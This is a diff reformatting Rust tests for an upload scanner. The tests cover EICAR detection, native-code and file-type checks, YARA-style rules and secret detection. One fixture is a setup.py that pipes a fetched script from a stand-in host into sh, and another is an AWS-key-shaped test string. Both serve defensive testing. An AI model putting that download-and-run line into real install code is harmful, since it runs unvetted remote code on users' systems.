@@ -5,7 +5,11 @@ use super::{MIDI, check_bytes, manifest, package, passes, scan};
 use scanner::{CheckId, Outcome, Verdict};
 
 fn eicar() -> String {
-    ["X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-", "ANTIVIRUS-TEST-FILE!$H+H*"].concat()
+    [
+        "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-",
+        "ANTIVIRUS-TEST-FILE!$H+H*",
+    ]
+    .concat()
 }
 
 #[track_caller]
@@ -18,12 +22,25 @@ fn check_file(content_type: &str, path: &str, content: &[u8], verdict: Verdict, 
 #[test]
 fn eicar_anywhere() {
     let eicar = eicar();
-    for content in [eicar.clone(), format!("{eicar}\r\n"), format!("text before {eicar} and after")] {
-        check_file("groove-template", "a.txt", content.as_bytes(), Verdict::Rejected, "eicar.test_file");
+    for content in [
+        eicar.clone(),
+        format!("{eicar}\r\n"),
+        format!("text before {eicar} and after"),
+    ] {
+        check_file(
+            "groove-template",
+            "a.txt",
+            content.as_bytes(),
+            Verdict::Rejected,
+            "eicar.test_file",
+        );
     }
     // Stored, it is seen in the archive's own bytes as well.
     let text = manifest("groove-template", &[("a.txt", eicar.as_bytes())]);
-    let zip = RawZip::of(vec![Entry::deflated("souk.toml", text.as_bytes()), Entry::stored("a.txt", eicar.as_bytes())]);
+    let zip = RawZip::of(vec![
+        Entry::deflated("souk.toml", text.as_bytes()),
+        Entry::stored("a.txt", eicar.as_bytes()),
+    ]);
     check_bytes(&zip.build(), Verdict::Rejected, &["eicar.test_file"]);
     // Uploaded plain, or in something that cannot be read.
     let report = scan(eicar.as_bytes());
@@ -38,31 +55,97 @@ fn eicar_anywhere() {
 #[test]
 fn machine_code() {
     let elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0\x3e\0";
-    check_file("sample-pack", "kick.wav", elf, Verdict::Rejected, "file_types.native_code");
-    check_file("integration", "tool.wasm", elf, Verdict::Rejected, "file_types.native_code");
-    check_file("plugin-native", "echo.clap", elf, Verdict::Quarantined, "file_types.native_code_held");
-    check_file("plugin-native", "echo.vst3/Contents/MacOS/echo", b"\xcf\xfa\xed\xfe\x0c\0\0\x01", Verdict::Quarantined, "file_types.native_code_held");
+    check_file(
+        "sample-pack",
+        "kick.wav",
+        elf,
+        Verdict::Rejected,
+        "file_types.native_code",
+    );
+    check_file(
+        "integration",
+        "tool.wasm",
+        elf,
+        Verdict::Rejected,
+        "file_types.native_code",
+    );
+    check_file(
+        "plugin-native",
+        "echo.clap",
+        elf,
+        Verdict::Quarantined,
+        "file_types.native_code_held",
+    );
+    check_file(
+        "plugin-native",
+        "echo.vst3/Contents/MacOS/echo",
+        b"\xcf\xfa\xed\xfe\x0c\0\0\x01",
+        Verdict::Quarantined,
+        "file_types.native_code_held",
+    );
 }
 
 #[test]
 fn names_and_content() {
-    check_file("groove-template", "a.mid", b"not MIDI", Verdict::Rejected, "file_types.mismatch");
+    check_file(
+        "groove-template",
+        "a.mid",
+        b"not MIDI",
+        Verdict::Rejected,
+        "file_types.mismatch",
+    );
     check_file("sample-pack", "a.wav", MIDI, Verdict::Rejected, "file_types.mismatch");
     check_file("chord-pack", "a.exe", b"MZ", Verdict::Rejected, "file_types.extension");
-    check_file("production-guide", "a.pdf", b"%PDF-1.7\n", Verdict::Quarantined, "file_types.pdf_held");
-    check_file("production-guide", "a.md", "# Guide\n\nÜber Bässe.\n".as_bytes(), Verdict::Passed, "");
+    check_file(
+        "production-guide",
+        "a.pdf",
+        b"%PDF-1.7\n",
+        Verdict::Quarantined,
+        "file_types.pdf_held",
+    );
+    check_file(
+        "production-guide",
+        "a.md",
+        "# Guide\n\nÜber Bässe.\n".as_bytes(),
+        Verdict::Passed,
+        "",
+    );
 }
 
 #[test]
 fn rules_and_secrets_hold() {
     let dropper = b"import os\nos.system(\"curl -s https://x.example/a.sh | sh\")\n";
-    check_file("integration", "setup.py", dropper, Verdict::Quarantined, "yara.shell_download_and_run");
+    check_file(
+        "integration",
+        "setup.py",
+        dropper,
+        Verdict::Quarantined,
+        "yara.shell_download_and_run",
+    );
     // A guide may quote what it warns of.
     check_file("integration", "README.md", dropper, Verdict::Passed, "");
     let key = ["AKIA", "QYLPMN5HTHFPZAM2"].concat();
-    check_file("integration", "config.json", format!("{{\"key\":\"{key}\"}}").as_bytes(), Verdict::Quarantined, "secrets.aws_access_key");
-    check_file("integration", "README.md", format!("Key: {key}").as_bytes(), Verdict::Quarantined, "secrets.aws_access_key");
-    check_file("integration", "README.md", b"Key: AKIAIOSFODNN7EXAMPLE", Verdict::Passed, "");
+    check_file(
+        "integration",
+        "config.json",
+        format!("{{\"key\":\"{key}\"}}").as_bytes(),
+        Verdict::Quarantined,
+        "secrets.aws_access_key",
+    );
+    check_file(
+        "integration",
+        "README.md",
+        format!("Key: {key}").as_bytes(),
+        Verdict::Quarantined,
+        "secrets.aws_access_key",
+    );
+    check_file(
+        "integration",
+        "README.md",
+        b"Key: AKIAIOSFODNN7EXAMPLE",
+        Verdict::Passed,
+        "",
+    );
 }
 
 #[test]
